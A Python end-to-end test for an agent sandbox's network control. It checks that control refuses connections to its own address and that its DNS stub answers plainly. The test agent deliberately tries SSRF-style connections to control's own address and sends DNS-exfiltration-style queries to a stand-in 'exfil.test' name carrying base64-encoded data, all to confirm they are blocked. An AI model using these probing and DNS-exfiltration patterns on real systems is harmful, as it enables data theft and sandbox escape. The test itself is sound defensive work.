"""Control never dials itself, and its DNS answers say what they mean — from the agent's side.

Control runs in this test's (root) network namespace, which holds the test host's veth gateway address. The
policy names ``self.test`` exactly, with ``allowed_ips`` covering that address, and a hostless endpoint on the
same port: everything a policy can say to let the agent reach it. The test's DNS server answers ``self.test``
with it, and a listener waits there. The agent (dev mode, ``--ipv6-egress=off``) tries it by name and by
address, through the proxy and transparently, and asks the stub DNS questions with its own hand-made queries:

* CONNECT by name and by literal: ``403 ssrf_denied`` with reason ``control-local``; the listener is never
  reached; control's event is a deny with that reason;
* the stub: ``dual.test`` (A and AAAA records upstream) gets its A record, AAAA is NOERROR with no answers
  (control has no IPv6 egress), TXT is NOTIMP; a name no endpoint allows is REFUSED for A and TXT alike and
  never reaches the test's DNS server.

A second run adds ``--self-address`` with the test host's address: a destination that was reachable is then
refused as control-local too.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.attack_world import AGENT_PRELUDE, AGENT_PYTHON, Agent, DevRun
from tests.netns_hosts import DnsServer, NetnsHost, open_test_host, require_netns

CLI = [sys.executable, "-m", "supervisor.cli"]
EXFIL = "c2VjcmV0.exfil.test"

POLICY = """\
version: 1
network_policies:
  own-address:
    endpoints:
      - host: self.test
        port: {p}
        allowed_ips: ["{gateway}/32"]
      - ports: [{p}]
        allowed_ips: ["{gateway}/32"]
    binaries:
      - path: /usr/bin/python3*
  test-host:
    endpoints:
      - host: dual.test
        port: {q}
        allowed_ips: ["{address}/32"]
      - host: svc.test
        port: {q}
        allowed_ips: ["{address}/32"]
    binaries:
      - path: /usr/bin/python3*
"""

AGENT = """
def ask(name, qtype):
    result, data = udp_probe(HOST, 53, dns_query(name, qtype), wait=5)
    if len(data) < 12:
        return {"result": result}
    return {"rcode": data[3] & 0x0F, "answers": int.from_bytes(data[6:8], "big")}


def connect(authority):
    sock, answer = tunnel(authority)
    if sock is not None:
        sock.close()
        return {"status": 200}
    return {"status": answer["status"], "body": answer["body"]}


P, Q = CONFIG["p"], CONFIG["q"]
report("connect-name", **connect(f"self.test:{P}"))
report("connect-literal", **connect(f"{CONFIG['gateway']}:{P}"))
report("connect-svc", **connect(f"svc.test:{Q}"))
sock = dial(CONFIG["gateway"], P)
report("transparent", end=sock if isinstance(sock, str) else wait_end(sock)["end"])
report("dns-self-a", **ask("self.test", 1))
report("dns-dual-a", **ask("dual.test", 1))
report("dns-dual-aaaa", **ask("dual.test", 28))
report("dns-dual-txt", **ask("dual.test", 16))
report("dns-exfil-a", **ask(CONFIG["exfil"], 1))
report("dns-exfil-txt", **ask(CONFIG["exfil"], 16))
"""

NOERROR, NOTIMP, REFUSED = 0, 4, 5


@dataclass
class World:
    host: NetnsHost
    dns: DnsServer
    policy: Path
    agent_dir: Path
    runtime: str
    own: socket.socket  # listening on control's own address: nothing may ever connect

    def run(self, *options: str) -> Agent:
        script = self.agent_dir / "agent.py"
        script.write_text(AGENT_PRELUDE + "\n" + AGENT)
        script.chmod(0o644)
        argv = [*CLI, "dev", "--log-format=json", f"--policy={self.policy}", "--ipv6-egress=off",
                f"--dns-server={self.dns.address[0]}:{self.dns.address[1]}", f"--workdir={self.agent_dir}",
                "--workdir-read-only", *options, "--", AGENT_PYTHON, str(script)]  # fmt: skip
        env = {**os.environ, "XDG_RUNTIME_DIR": self.runtime}
        return DevRun(argv, env, self.agent_dir.parent).finish(120)

    def reached(self) -> list[str]:
        hits: list[str] = []
        while True:
            try:
                conn, peer = self.own.accept()
            except BlockingIOError:
                return hits
            conn.close()
            hits.append(f"{peer[0]}:{peer[1]}")


def _listen_on(address: str) -> socket.socket:
    for _attempt in range(200):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.bind((address, random.randrange(20000, 32000)))
        except OSError:
            sock.close()
            continue
        sock.listen(64)
        sock.setblocking(False)
        return sock
    raise AssertionError(f"no free port on {address}")


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    require_netns()
    if not os.access(AGENT_PYTHON, os.X_OK):
        pytest.skip(f"{AGENT_PYTHON} is needed: the agent's uid cannot read pyenv's python")
    scratch = Path(tempfile.mkdtemp(prefix="osb-self-"))
    runtime = tempfile.mkdtemp(prefix="osr-", dir="/tmp")
    try:
        os.chmod(scratch, 0o755)
        agent_dir = scratch / "agent"
        agent_dir.mkdir(mode=0o755)
        os.chmod(agent_dir, 0o755)
        with open_test_host() as host:
            own = _listen_on(host.gateway)  # control's namespace holds the gateway address
            p = own.getsockname()[1]
            served = host.listen(0, host.address)  # the test host: reachable unless --self-address names it
            q = served.getsockname()[1]
            records = {"self.test": [host.gateway], "dual.test": [host.address, "2001:db8::5"],
                       "svc.test": [host.address]}  # fmt: skip
            with DnsServer(records) as dns:
                policy = scratch / "policy.yaml"
                policy.write_text(POLICY.format(p=p, q=q, gateway=host.gateway, address=host.address))
                (agent_dir / "config.json").write_text(json.dumps(
                    {"host": host.address, "gateway": host.gateway, "p": p, "q": q, "exfil": EXFIL}
                ))  # fmt: skip
                (agent_dir / "config.json").chmod(0o644)
                try:
                    yield World(host, dns, policy, agent_dir, runtime, own)
                finally:
                    own.close()
                    served.close()
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        shutil.rmtree(runtime, ignore_errors=True)


def _refused_as_control_local(probe: dict[str, Any], agent: Agent) -> None:
    assert probe["status"] == 403, agent.explain()
    assert probe["body"]["error"] == "ssrf_denied" and probe["body"]["reason"] == "control-local", probe


def test_control_refuses_its_own_address_and_answers_dns_plainly(world: World) -> None:
    agent = world.run()
    p = agent.probes
    print("\n" + "\n".join(f"{name}: {json.dumps(result)}" for name, result in p.items()))
    assert agent.result.returncode == 0, agent.explain()
    _refused_as_control_local(p["connect-name"], agent)
    _refused_as_control_local(p["connect-literal"], agent)
    assert p["transparent"]["end"] == "reset", agent.explain()  # a transparent connection: refused by a reset
    assert world.reached() == [], "control dialled its own address"
    denials = [e for e in agent.egress() if e["destination"].endswith(f":{world.own.getsockname()[1]}")]
    assert len(denials) >= 3 and all((e["decision"], e["reason"]) == ("deny", "control-local") for e in denials)
    assert p["connect-svc"] == {"status": 200}, agent.explain()  # an address that is not control's own
    # DNS through the agent's stub
    assert p["dns-self-a"]["answers"] == 0, "control issued its own address to the agent"
    assert (p["dns-dual-a"]["rcode"], p["dns-dual-a"]["answers"]) == (NOERROR, 1), p
    assert (p["dns-dual-aaaa"]["rcode"], p["dns-dual-aaaa"]["answers"]) == (NOERROR, 0), p  # no IPv6 egress
    assert p["dns-dual-txt"]["rcode"] == NOTIMP, p
    assert p["dns-exfil-a"]["rcode"] == REFUSED and p["dns-exfil-txt"]["rcode"] == REFUSED, p
    assert world.dns.count(EXFIL) == 0, "a name no endpoint allows reached the resolver"
    assert world.dns.count("dual.test", "TXT") == 0
    decisions = {(e.get("name"), e.get("qtype")): e.get("decision") for e in agent.events if e.get("event") == "dns"}
    assert decisions[("dual.test", "AAAA")] == "no-data" and decisions[("dual.test", "TXT")] == "not-implemented"


def test_self_address_flag_refuses_what_was_reachable(world: World) -> None:
    agent = world.run(f"--self-address={world.host.address}")
    assert agent.result.returncode == 0, agent.explain()
    _refused_as_control_local(agent.probes["connect-svc"], agent)
    assert agent.probes["dns-dual-a"]["answers"] == 0  # not even issued to the agent
    assert world.reached() == []


def test_help_names_the_flags() -> None:
    out = subprocess.run([*CLI, "--mode=control", "--help"], capture_output=True, text=True, timeout=30).stdout
    assert "--self-address" in out and "--ipv6-egress" in out
